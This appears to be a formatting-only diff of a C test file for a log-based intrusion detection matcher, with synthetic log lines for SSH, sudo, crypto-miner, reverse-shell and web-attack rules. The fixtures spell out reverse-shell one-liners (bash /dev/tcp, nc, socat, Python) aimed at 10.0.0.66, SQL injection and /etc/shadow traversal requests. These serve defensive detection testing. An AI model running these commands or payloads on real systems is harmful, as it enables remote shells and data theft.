@@ -62,7 +62,8 @@ static int64_t syslog_ns(const char *mon, int day, const char *hms)
     cr_assert(at && strlen(mon) == 3, "month '%s'", mon);
     int h = 0, mi = 0, s = 0;
     for (int i = 0; i < 8; i++) {
-        cr_assert(hms[i] && (i % 3 == 2 ? hms[i] == ':' : hms[i] >= '0' && hms[i] <= '9'), "%s", hms);
+        cr_assert(hms[i] && (i % 3 == 2 ? hms[i] == ':' : hms[i] >= '0' && hms[i] <= '9'), "%s",
+                  hms);
     }
     h = (hms[0] - '0') * 10 + hms[1] - '0';
     mi = (hms[3] - '0') * 10 + hms[4] - '0';
@@ -117,8 +118,11 @@ static void replay_file(const struct cm_policy *p, struct ag_matcher *m, const c
         size_t end = nl ? (size_t)(nl - text) : len, next = nl ? end + 1 : len;
         if (end > off && text[end - 1] == '\r') end--;
         text[end] = 0;
-        struct ag_tail_line l = {.source = &src, .offset = off, .end_offset = next,
-                                 .text = text + off, .len = end - off};
+        struct ag_tail_line l = {.source = &src,
+                                 .offset = off,
+                                 .end_offset = next,
+                                 .text = text + off,
+                                 .len = end - off};
         struct cm_log_event ev[8];
         size_t n = ag_matcher_match(m, &l, line_ns(text + off), ev, 8);
         for (size_t i = 0; i < n; i++) {
@@ -216,10 +220,14 @@ static bool expect_rule(const char *id, const struct csv_row *r, bool auth_kind)
     if (strcmp(id, "ssh.failed_password") == 0)
         return strcmp(t, "Failed password for <*> from <*> port <*> ssh2") == 0 ||
                strcmp(t, "Failed password for invalid user <*> from <*> port <*> ssh2") == 0 ||
-               strcmp(t, "message repeated <*> times: [ Failed password for root from <*> port <*>]") == 0;
+               strcmp(
+                   t,
+                   "message repeated <*> times: [ Failed password for root from <*> port <*>]") ==
+                   0;
     if (strcmp(id, "ssh.invalid_user") == 0) return strcmp(t, "Invalid user <*> from <*>") == 0;
     if (strcmp(id, "ssh.accepted_login") == 0) return strncmp(t, "Accepted ", 9) == 0;
-    if (strcmp(id, "ssh.accepted_root") == 0) return strncmp(t, "Accepted ", 9) == 0 && has(c, "for root ");
+    if (strcmp(id, "ssh.accepted_root") == 0)
+        return strncmp(t, "Accepted ", 9) == 0 && has(c, "for root ");
     if (strcmp(id, "auth.root_console_login") == 0) return strncmp(t, "ROOT LOGIN ON", 13) == 0;
     if (strcmp(id, "auth.sudo_su_failure") == 0)
         return (pam_su && strncmp(t, "authentication failure", 22) == 0) ||
@@ -262,7 +270,8 @@ static void note_failure(struct expect_ctx *x, const struct csv_row *r)
     for (f += 6; *f && *f != ' ' && k + 1 < sizeof ip; f++)
         ip[k++] = *f;
     ip[k] = 0;
-    int weight = strncmp(t, "message repeated", 16) == 0 ? (int)strtol(r->content + 17, NULL, 10) : 1;
+    int weight =
+        strncmp(t, "message repeated", 16) == 0 ? (int)strtol(r->content + 17, NULL, 10) : 1;
     cr_assert_gt(weight, 0);
     size_t i = 0;
     while (i < x->n_ip && strcmp(x->ip[i], ip) != 0)
@@ -339,8 +348,8 @@ static void corpus_case(const char *log_rel, const char *csv_rel, bool linux_lay
     for (size_t i = 0; i < x.n_ip; i++) {
         bool want = csv_says_brute(&x, i, &p.rules[brute]);
         n_brute += want;
-        cr_assert_eq(flagged(&r, x.ip[i]), want, "%s: %s flagged=%d, the CSV says %d", log_rel, x.ip[i],
-                     flagged(&r, x.ip[i]), want);
+        cr_assert_eq(flagged(&r, x.ip[i]), want, "%s: %s flagged=%d, the CSV says %d", log_rel,
+                     x.ip[i], flagged(&r, x.ip[i]), want);
         free(x.times[i]);
     }
     cr_assert_eq(r.n_flagged, n_brute, "flagged an address without failures");
@@ -383,8 +392,8 @@ Test(rules_corpus, linux_sample)
 struct synth {
     enum cm_log_source_kind kind;
     const char *line;
-    const char *rules;    /* space-separated rule ids expected, "" = none */
-    const char *field;    /* "key=value" checked on the first event, or NULL */
+    const char *rules; /* space-separated rule ids expected, "" = none */
+    const char *field; /* "key=value" checked on the first event, or NULL */
 };
 
 #define C CM_LOG_SRC_CONTAINER
@@ -395,51 +404,63 @@ struct synth {
 static const struct synth synth_lines[] = {
     /* pam_unix (Linux-PAM modules/pam_unix/support.c, _unix_verify_password):
      * "authentication failure; logname=%s uid=%d euid=%d tty=%s ruser=%s rhost=%s  user=%s" */
-    {A, "Nov 23 10:00:01 h sudo: pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 "
-        "euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice",
+    {A,
+     "Nov 23 10:00:01 h sudo: pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 "
+     "euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice",
      "auth.sudo_su_failure", "service=sudo"},
-    {A, "Nov 23 10:00:02 h su: pam_unix(su-l:auth): authentication failure; logname=bob uid=1001 "
-        "euid=0 tty=pts/1 ruser=bob rhost=  user=root",
+    {A,
+     "Nov 23 10:00:02 h su: pam_unix(su-l:auth): authentication failure; logname=bob uid=1001 "
+     "euid=0 tty=pts/1 ruser=bob rhost=  user=root",
      "auth.sudo_su_failure", "user=root"},
     /* the same in the RHEL 4 program(pam_module)[pid] form of the Linux sample */
-    {S, "Jun 14 15:16:01 combo su(pam_unix)[19939]: authentication failure; logname= uid=500 euid=0 "
-        "tty= ruser=bob rhost=  user=root",
+    {S,
+     "Jun 14 15:16:01 combo su(pam_unix)[19939]: authentication failure; logname= uid=500 euid=0 "
+     "tty= ruser=bob rhost=  user=root",
      "auth.sudo_su_failure", "service=su"},
     /* sudo (plugins/sudoers/logging.c): "%u incorrect password attempt%s", "user NOT in sudoers" */
-    {A, "Nov 23 10:00:03 h sudo:    alice : 3 incorrect password attempts ; TTY=pts/0 ; "
-        "PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id",
+    {A,
+     "Nov 23 10:00:03 h sudo:    alice : 3 incorrect password attempts ; TTY=pts/0 ; "
+     "PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id",
      "auth.sudo_su_failure", "attempts=3"},
-    {A, "Nov 23 10:00:04 h sudo:      eve : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; USER=root ; "
-        "COMMAND=/bin/sh",
+    {A,
+     "Nov 23 10:00:04 h sudo:      eve : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; USER=root ; "
+     "COMMAND=/bin/sh",
      "auth.sudo_su_failure", "reason=user NOT in sudoers"},
-    /* util-linux su-common.c: "FAILED SU (to %s) %s on %s"; shadow su.c: "FAILED su for %s by %s" */
+    /* util-linux su-common.c: "FAILED SU (to %s) %s on %s"; shadow su.c: "FAILED su for %s by %s"
+     */
     {A, "Nov 23 10:00:05 h su[4242]: FAILED SU (to root) bob on pts/1", "auth.sudo_su_failure",
      "target_user=root"},
-    {A, "Nov 23 10:00:06 h su[4243]: FAILED su for root by bob", "auth.sudo_su_failure", "user=bob"},
+    {A, "Nov 23 10:00:06 h su[4243]: FAILED su for root by bob", "auth.sudo_su_failure",
+     "user=bob"},
     /* sudo's accepted command: "%s : TTY=%s ; PWD=%s ; USER=%s ; COMMAND=%s" */
-    {A, "Nov 23 10:00:07 h sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
-        "COMMAND=/usr/bin/apt update",
+    {A,
+     "Nov 23 10:00:07 h sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
+     "COMMAND=/usr/bin/apt update",
      "auth.sudo_root", "command=/usr/bin/apt update"},
-    {A, "Nov 23 10:00:08 h sudo[77]:    alice : TTY=pts/0 ; PWD=/srv ; USER=root ; TSID=000001 ; "
-        "COMMAND=/bin/ls",
+    {A,
+     "Nov 23 10:00:08 h sudo[77]:    alice : TTY=pts/0 ; PWD=/srv ; USER=root ; TSID=000001 ; "
+     "COMMAND=/bin/ls",
      "auth.sudo_root", "user=alice"},
     {A, "Nov 23 10:00:09 h sudo:    alice : TTY=pts/0 ; PWD=/srv ; USER=postgres ; COMMAND=/bin/ls",
      "", NULL},
-    {A, "Nov 23 10:00:10 h sudo: pam_unix(sudo:session): session opened for user root(uid=0) by "
-        "alice(uid=1000)",
+    {A,
+     "Nov 23 10:00:10 h sudo: pam_unix(sudo:session): session opened for user root(uid=0) by "
+     "alice(uid=1000)",
      "", NULL},
     /* util-linux login-utils/login.c: "ROOT LOGIN ON %s FROM %s" */
-    {A, "Nov 23 10:00:11 h login[812]: ROOT LOGIN ON pts/3 FROM 192.0.2.8", "auth.root_console_login",
-     "src_host=192.0.2.8"},
+    {A, "Nov 23 10:00:11 h login[812]: ROOT LOGIN ON pts/3 FROM 192.0.2.8",
+     "auth.root_console_login", "src_host=192.0.2.8"},
     /* shadow-utils useradd.c / groupadd.c */
-    {A, "Nov 23 10:01:00 h useradd[5001]: new user: name=backdoor, UID=1002, GID=1002, "
-        "home=/home/backdoor, shell=/bin/bash, from=/dev/pts/0",
+    {A,
+     "Nov 23 10:01:00 h useradd[5001]: new user: name=backdoor, UID=1002, GID=1002, "
+     "home=/home/backdoor, shell=/bin/bash, from=/dev/pts/0",
      "account.created", "name=backdoor"},
     {A, "Nov 23 10:01:00 h groupadd[5002]: new group: name=ops, GID=1003", "account.created",
      "gid=1003"},
     /* OpenSSH auth2.c/auth.c: "Accepted %s for %s from %.200s port %d ssh2" */
-    {A, "Nov 23 10:02:00 h sshd[900]: Accepted publickey for root from 203.0.113.9 port 50022 ssh2: "
-        "ED25519 SHA256:abc",
+    {A,
+     "Nov 23 10:02:00 h sshd[900]: Accepted publickey for root from 203.0.113.9 port 50022 ssh2: "
+     "ED25519 SHA256:abc",
      "ssh.accepted_root ssh.accepted_login", "src_ip=203.0.113.9"},
     {A, "Nov 23 10:02:01 h sshd[901]: Accepted password for alice from 2001:db8::7 port 50023 ssh2",
      "ssh.accepted_login", "src_ip=2001:db8::7"},
@@ -449,8 +470,8 @@ static const struct synth synth_lines[] = {
      * pip ("Successfully installed ..."), dnf ("Install  %d Package"), and shell traces */
     {C, "(1/4) Installing ncurses-terminfo-base (6.4_p20230506-r0)", "container.package_install",
      "count=4"},
-    {C, "0 upgraded, 3 newly installed, 0 to remove and 0 not upgraded.", "container.package_install",
-     "count=3"},
+    {C, "0 upgraded, 3 newly installed, 0 to remove and 0 not upgraded.",
+     "container.package_install", "count=3"},
     {C, "Successfully installed certifi-2023.11.17 requests-2.31.0", "container.package_install",
      "package=certifi-2023.11.17"},
     {C, "Install  2 Packages", "container.package_install", "count=2"},
@@ -462,58 +483,70 @@ static const struct synth synth_lines[] = {
     {C, "Reading package lists... Done", "", NULL},
     {A, "(1/4) Installing ncurses", "", NULL}, /* container-only rule */
     /* XMRig's console output (src/base/net/stratum/Pool.cpp, "use pool %s") */
-    {C, "[2026-11-23 10:03:00.512]  net      use pool stratum+tcp://pool.supportxmr.com:3333  "
-        "104.243.33.118",
+    {C,
+     "[2026-11-23 10:03:00.512]  net      use pool stratum+tcp://pool.supportxmr.com:3333  "
+     "104.243.33.118",
      "process.crypto_miner", "pool=pool.supportxmr.com:3333"},
     {C, " * ABOUT        XMRig/6.21.0 gcc/11.2.1", "process.crypto_miner", "miner=XMRig"},
-    {S, "Nov 23 10:03:01 h kernel: [ 100.0] minerd[3131]: general protection", "process.crypto_miner",
-     "miner=minerd"},
+    {S, "Nov 23 10:03:01 h kernel: [ 100.0] minerd[3131]: general protection",
+     "process.crypto_miner", "miner=minerd"},
     {C, "connecting to eu.nicehash.com:3333 ...", "process.crypto_miner", NULL},
     /* reverse shells as a process would log or echo them */
     {C, "+ bash -i >& /dev/tcp/10.0.0.66/4444 0>&1", "process.reverse_shell", "port=4444"},
-    {A, "Nov 23 10:04:00 h sudo:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/nc -e "
-        "/bin/sh 10.0.0.66 4444",
+    {A,
+     "Nov 23 10:04:00 h sudo:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/nc -e "
+     "/bin/sh 10.0.0.66 4444",
      "auth.sudo_root process.reverse_shell", NULL},
     {C, "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.66 4444 >/tmp/f",
      "process.reverse_shell", NULL},
-    {C, "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
-        "s.connect((\"10.0.0.66\",4444));os.dup2(s.fileno(),0);import pty; pty.spawn(\"/bin/sh\")'",
+    {C,
+     "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
+     "s.connect((\"10.0.0.66\",4444));os.dup2(s.fileno(),0);import pty; pty.spawn(\"/bin/sh\")'",
      "process.reverse_shell", NULL},
     {C, "socat TCP:10.0.0.66:4444 EXEC:/bin/bash,pty,stderr,setsid", "process.reverse_shell", NULL},
     {C, "nc -zv db 5432", "", NULL},
     /* web access logs in the combined format (nginx log_format combined) */
-    {C, "172.17.0.1 - - [23/Nov/2026:10:05:00 +0000] \"GET /item?id=1%20UNION%20SELECT%20"
-        "username,password%20FROM%20users HTTP/1.1\" 200 12 \"-\" \"sqlmap/1.7\"",
+    {C,
+     "172.17.0.1 - - [23/Nov/2026:10:05:00 +0000] \"GET /item?id=1%20UNION%20SELECT%20"
+     "username,password%20FROM%20users HTTP/1.1\" 200 12 \"-\" \"sqlmap/1.7\"",
      "web.sql_injection", "src_ip=172.17.0.1"},
-    {C, "172.17.0.1 - - [23/Nov/2026:10:05:01 +0000] \"GET /login?user=admin%27%20OR%201=1-- "
-        "HTTP/1.1\" 200 12 \"-\" \"curl/8.0\"",
+    {C,
+     "172.17.0.1 - - [23/Nov/2026:10:05:01 +0000] \"GET /login?user=admin%27%20OR%201=1-- "
+     "HTTP/1.1\" 200 12 \"-\" \"curl/8.0\"",
      "web.sql_injection", "method=GET"},
-    {C, "10.1.1.1 - - [23/Nov/2026:10:05:02 +0000] \"POST /search?q=1'+or+sleep(5)# HTTP/1.1\" 200 1 "
-        "\"-\" \"x\"",
+    {C,
+     "10.1.1.1 - - [23/Nov/2026:10:05:02 +0000] \"POST /search?q=1'+or+sleep(5)# HTTP/1.1\" 200 1 "
+     "\"-\" \"x\"",
      "web.sql_injection", NULL},
-    {C, "10.1.1.1 - - [23/Nov/2026:10:05:03 +0000] \"GET /static/../../../../etc/passwd HTTP/1.1\" "
-        "400 0 \"-\" \"x\"",
+    {C,
+     "10.1.1.1 - - [23/Nov/2026:10:05:03 +0000] \"GET /static/../../../../etc/passwd HTTP/1.1\" "
+     "400 0 \"-\" \"x\"",
      "web.path_traversal web.sensitive_file", "uri=/static/../../../../etc/passwd"},
-    {C, "10.1.1.1 - - [23/Nov/2026:10:05:04 +0000] \"GET /cgi-bin/%2e%2e%2f%2e%2e%2fbin/sh "
-        "HTTP/1.1\" 404 0 \"-\" \"x\"",
+    {C,
+     "10.1.1.1 - - [23/Nov/2026:10:05:04 +0000] \"GET /cgi-bin/%2e%2e%2f%2e%2e%2fbin/sh "
+     "HTTP/1.1\" 404 0 \"-\" \"x\"",
      "web.path_traversal", NULL},
     {C, "GET /download?file=%2Fetc%2Fshadow HTTP/1.1", "web.sensitive_file", NULL},
-    {C, "10.1.1.1 - - [23/Nov/2026:10:05:05 +0000] \"GET /products?sort=price&page=2 HTTP/1.1\" 200 "
-        "5120 \"-\" \"Mozilla/5.0\"",
+    {C,
+     "10.1.1.1 - - [23/Nov/2026:10:05:05 +0000] \"GET /products?sort=price&page=2 HTTP/1.1\" 200 "
+     "5120 \"-\" \"Mozilla/5.0\"",
      "", NULL},
     {C, "db: SELECT name FROM a UNION SELECT name FROM b", "", NULL}, /* not a request */
     /* kernel mm/oom_kill.c (dump_oom_summary, __oom_kill_process) */
-    {K, "[ 812.551] oom-kill:constraint=CONSTRAINT_MEMCG,nodemask=(null),cpuset=abc,mems_allowed=0,"
-        "oom_memcg=/docker/abc,task_memcg=/docker/abc,task=stress,pid=4242,uid=0",
+    {K,
+     "[ 812.551] oom-kill:constraint=CONSTRAINT_MEMCG,nodemask=(null),cpuset=abc,mems_allowed=0,"
+     "oom_memcg=/docker/abc,task_memcg=/docker/abc,task=stress,pid=4242,uid=0",
      "kernel.oom_kill", "memcg=/docker/abc"},
-    {K, "[ 812.552] Memory cgroup out of memory: Killed process 4242 (stress) total-vm:1052kB, "
-        "anon-rss:262144kB, file-rss:0kB, shmem-rss:0kB, UID:0 pgtables:560kB oom_score_adj:0",
+    {K,
+     "[ 812.552] Memory cgroup out of memory: Killed process 4242 (stress) total-vm:1052kB, "
+     "anon-rss:262144kB, file-rss:0kB, shmem-rss:0kB, UID:0 pgtables:560kB oom_score_adj:0",
      "", NULL}, /* the same kill: one event per pid within 10 s */
     {S, "Nov 23 10:06:00 h kernel: Out of memory: Killed process 977 (java) total-vm:4096kB",
      "kernel.oom_kill", "process=java"},
     /* arch/x86/mm/fault.c show_signal_msg: "%s%s[%d]: segfault at %lx ip %px sp %px error %lx" */
-    {K, "[ 900.1] nginx[3100]: segfault at 0 ip 000055d0c1a2b3c4 sp 00007ffd1234abcd error 4 in "
-        "nginx[55d0c1a00000+f4000] likely on CPU 1 (core 1, socket 0)",
+    {K,
+     "[ 900.1] nginx[3100]: segfault at 0 ip 000055d0c1a2b3c4 sp 00007ffd1234abcd error 4 in "
+     "nginx[55d0c1a00000+f4000] likely on CPU 1 (core 1, socket 0)",
      "kernel.segfault", "object=nginx"},
     {K, "[ 901.0] usb 1-1: new high-speed USB device number 2", "", NULL},
 };
@@ -564,8 +597,8 @@ Test(rules_corpus, synthetic_lines)
         struct ag_tail_line l = {.source = &src[s->kind], .text = s->line, .len = strlen(s->line)};
         struct cm_log_event ev[8];
         size_t n = ag_matcher_match(m, &l, now += SEC, ev, 8);
-        cr_assert_eq(n, count_words(s->rules), "line %zu: %zu events, want '%s': %s", i, n, s->rules,
-                     s->line);
+        cr_assert_eq(n, count_words(s->rules), "line %zu: %zu events, want '%s': %s", i, n,
+                     s->rules, s->line);
         for (size_t e = 0; e < n; e++) {
             cr_assert(want_rule(s->rules, ev[e].rule_id), "line %zu: unexpected %s: %s", i,
                       ev[e].rule_id, s->line);
@@ -577,8 +610,8 @@ Test(rules_corpus, synthetic_lines)
     }
     /* every built-in rule but the brute force (the corpus covers it) fired */
     for (size_t i = 0; i < p.n; i++) {
-        if (strcmp(p.rules[i].id, "ssh.brute_force") == 0 || strcmp(p.rules[i].id,
-                                                                   "ssh.failed_password") == 0)
+        if (strcmp(p.rules[i].id, "ssh.brute_force") == 0 ||
+            strcmp(p.rules[i].id, "ssh.failed_password") == 0)
             continue;
         cr_assert(seen[i], "no synthetic line for rule %s", p.rules[i].id);
     }
